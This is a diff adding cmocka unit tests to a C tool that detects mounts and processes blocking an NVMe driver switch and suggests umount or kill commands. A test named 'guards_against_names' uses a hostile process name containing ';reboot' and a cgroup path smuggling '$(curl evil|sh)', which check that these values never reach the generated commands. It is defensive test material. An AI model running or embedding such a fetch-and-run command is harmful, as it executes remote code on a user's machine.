@@ -124,10 +124,13 @@ static void guards_disks(void **state)
 	make_disk(tree);
 	tree_file(tree, "proc/self/mountinfo",
 		  "1 0 259:1 / /my\\040boot rw - ext4 /dev/nvme0n1p1 rw\n"
-		  "2 0 259:1 / /it's rw - ext4 /dev/nvme0n1p1 rw\n");
+		  "2 0 259:1 / /it's rw - ext4 /dev/nvme0n1p1 rw\n"
+		  "3 0 259:1 / /a\\012b rw - ext4 /dev/nvme0n1p1 rw\n");
 	tree_file(tree, "proc/swaps", "Filename\n/dev/dm-0 partition 1 2 3\n");
 	assert_int_equal(driver_guard(&tree->root, NVME_PATH, &list), 0);
-	assert_int_equal(list.n, 4);
+	assert_int_equal(list.n, 5);
+	assert_null(list.v[2].command);
+	assert_string_equal(list.v[2].detail, "is mounted on /a\nb");
 	assert_string_equal(list.v[0].command, "umount '/my boot'");
 	assert_string_equal(list.v[0].detail, "is mounted on /my boot");
 	assert_string_equal(list.v[1].command, "umount '/it'\\''s'");
@@ -224,15 +227,76 @@ static void guards_holders(void **state)
 	assert_string_equal(list.v[0].object, "process 812 (qemu)");
 	assert_string_equal(list.v[0].command, "kill 812");
 	assert_string_equal(list.v[1].command, "systemctl stop dpdk.service");
+	assert_int_equal(list.v[1].pid, 813);
+}
+
+/* Processes of a user who means harm, and what the hints make of their names. */
+static void guards_against_names(void **state)
+{
+	const struct tree *tree = *state;
+	_cleanup_driver_obstacles_ struct driver_obstacles list = { 0 };
+
+	tree_pci(tree, NVME, "3", "DRIVER=vfio-pci\n");
+	tree_dir(tree, NVME_ROOT "vfio-dev/vfio7");
+	tree_file(tree, "proc/811/comm", "ioasid:;reboot\n");
+	tree_file(tree, "proc/812/comm", "x\n");
+	tree_file(tree, "proc/812/cgroup", "0::/$(curl evil|sh).service\n");
+	tree_file(tree, "proc/813/comm", "x\n");
+	tree_file(tree, "proc/813/cgroup",
+		  "0::/user.slice/user-1000.slice/user@1000.service/sshd.service\n");
+	for (int pid = 811; pid <= 813; pid++) {
+		char path[64];
+
+		snprintf(path, sizeof(path), "proc/%d/fd/3", pid);
+		tree_link(tree, path, "/dev/vfio/devices/vfio7");
+	}
+	assert_int_equal(driver_guard(&tree->root, NVME_PATH, &list), 0);
+	assert_int_equal(list.n, 3);
+	assert_null(list.v[0].command);
+	assert_int_equal(list.v[0].pid, 811);
+	assert_string_equal(list.v[1].command, "kill 812");
+	assert_string_equal(list.v[2].command, "kill 813");
+}
+
+static void guards_disks_that_are_open(void **state)
+{
+	const struct tree *tree = *state;
+	_cleanup_driver_obstacles_ struct driver_obstacles list = { 0 };
+
+	tree_pci(tree, NVME, "3", "DRIVER=nvme\n");
+	add_block(tree, NVME "/nvme/nvme0/nvme0n1", "259:0\n");
+	add_block(tree, NVME "/nvme/nvme0/nvme0n1/nvme0n1p1", "259:1\n");
+	add_block(tree, "virtual/block/loop0", "7:0\n");
+	tree_link(tree, "sys/class/nvme/nvme0", "../../devices/" NVME "/nvme/nvme0");
+	tree_link(tree, "sys/class/nvme/nvme1", "../../devices/pci0000:00/0000:00:09.0/nvme/nvme1");
+	tree_link(tree, "sys/class/nvme-generic/ng0n1", "../../devices/" NVME "/nvme/nvme0/ng0n1");
+	tree_file(tree, "proc/swaps", "");
+	tree_file(tree, "proc/self/mountinfo", "");
+	tree_file(tree, "proc/812/comm", "qemu\n");
+	tree_link(tree, "proc/812/fd/9", "/dev/nvme0n1p1");
+	tree_link(tree, "proc/812/fd/10", "/dev/nvme0n1p2");
+	tree_link(tree, "proc/812/fd/11", "/dev/nvme1");
+	tree_link(tree, "proc/812/fd/12", "/dev/loop0");
+	tree_file(tree, "proc/813/comm", "nvme\n");
+	tree_link(tree, "proc/813/fd/3", "/dev/nvme0");
+	tree_file(tree, "proc/814/comm", "fio\n");
+	tree_link(tree, "proc/814/fd/3", "/dev/ng0n1");
+	assert_int_equal(driver_guard(&tree->root, NVME_PATH, &list), 0);
+	assert_int_equal(list.n, 3);
+	assert_string_equal(list.v[0].object, "process 812 (qemu)");
+	assert_string_equal(list.v[0].detail, "has /dev/nvme0n1p1 open");
+	assert_string_equal(list.v[1].detail, "has /dev/nvme0 open");
+	assert_string_equal(list.v[2].detail, "has /dev/ng0n1 open");
 }
 
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		tree_test(reads_blocks),     tree_test(finds_multipath),
-		tree_test(survives_circles), tree_test(guards_disks),
-		tree_test(guards_networks),  tree_test(says_what_it_cannot_tell),
-		tree_test(guards_functions), tree_test(guards_holders),
+		tree_test(reads_blocks),         tree_test(finds_multipath),
+		tree_test(survives_circles),     tree_test(guards_disks),
+		tree_test(guards_networks),      tree_test(says_what_it_cannot_tell),
+		tree_test(guards_functions),     tree_test(guards_holders),
+		tree_test(guards_against_names), tree_test(guards_disks_that_are_open),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
